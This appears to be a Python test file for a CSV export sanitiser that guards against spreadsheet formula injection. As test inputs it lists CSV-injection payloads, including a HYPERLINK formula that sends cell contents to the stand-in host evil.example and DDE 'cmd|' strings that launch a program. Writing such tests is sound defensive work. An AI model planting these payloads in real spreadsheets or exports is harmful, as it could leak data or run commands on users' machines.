"""CSV we write (the ``--errors`` file) defuses cells a spreadsheet would run as formulas (CSV injection):
text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from funnelsync.spreadsheet import FORMULA_STARTS, csv_writer, safe_cell
from jobs.imports import import_csv

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada", "ada@example.com", "x=1", " =1", "'=already", "", "Narnia"])
def test_plain_text_is_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_and_none_are_left_alone() -> None:
    assert [safe_cell(v) for v in (-5, 3.5, None)] == [-5, 3.5, None]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_and_every_value_survives(row: list[str]) -> None:
    out = io.StringIO(newline="")
    csv_writer(out).writerow(row)
    (read,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not any(cell.startswith(FORMULA_STARTS) for cell in read)
    assert [cell[1:] if cell != value else cell for cell, value in zip(read, row)] == row


def test_errors_file_of_an_import_defuses_formulas(db_engine: Engine, tmp_path: Path) -> None:
    """Rejected raw values are copied into ``--errors``: the ones a spreadsheet would run are defused."""
    rows = [
        "Customer ID,E-mail,Country",
        'c1,"=HYPERLINK(""http://evil.example"",""x"")",US',  # not an email address
        "c2,ok@example.com,@SUM(A1)",  # not a country
        "c3,ok3@example.com,+1",
        "c4,-1@,FR",
        "c5,ok5@example.com,DE",
    ]
    source = tmp_path / "leads.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    errors = tmp_path / "errors.csv"
    summary = import_csv(db_engine, source, "leads", errors_path=errors)
    assert summary.rejected == 4
    written = list(csv.reader(errors.open(newline="", encoding="utf-8")))
    assert written[0] == ["row", "column", "value", "reason"]
    assert [(r[0], r[2]) for r in written[1:]] == [
        ("2", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
        ("3", "'@SUM(A1)"),
        ("4", "'+1"),
        ("5", "'-1@"),
    ]
    # The rejection stored in the database keeps the value as typed; only the spreadsheet copy is defused.
    assert summary.errors[0]["value"].startswith("=HYPERLINK")
